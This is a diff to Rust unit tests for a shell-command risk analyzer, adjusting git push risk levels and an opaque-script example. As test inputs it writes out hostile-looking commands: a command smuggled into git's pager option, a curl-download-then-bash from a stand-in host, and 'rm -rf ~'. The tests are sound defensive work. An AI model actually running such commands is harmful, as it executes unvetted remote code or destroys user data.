@@ -533,7 +533,8 @@ fn git_global_options_and_rules() {
         guarded(c);
     }
     guarded("git -c core.pager='sh -c id' log");
-    not_risky("git push --force-with-lease");
+    not_risky("git push --force-with-lease origin feature/x");
+    risk_at_least("git push --force-with-lease origin main", Risk::High);
     assert!(a("git -C sub status").is_read_only());
     assert!(a("git log --oneline -5 && git diff HEAD~1").is_read_only());
 }
@@ -1028,7 +1029,7 @@ fn scripts_written_then_run_are_walked() {
     // Written from a source the analyzer cannot see, then run: opaque.
     opaque("curl -s https://x.example/i > i.sh; bash i.sh");
     opaque("echo \"$CMD\" > x.sh; bash x.sh");
-    opaque("printf '#!/usr/bin/tclsh\\nputs 1\\n' > t; ./t");
+    opaque("printf '#!/usr/bin/julia\\nprintln(1)\\n' > t; ./t");
     // A harmless script stays harmless; a bare name is looked up in PATH, not the file.
     not_risky("echo 'ls -la' > list.sh; bash list.sh");
     not_risky("echo 'rm -rf ~' > notes.txt; cat notes.txt");
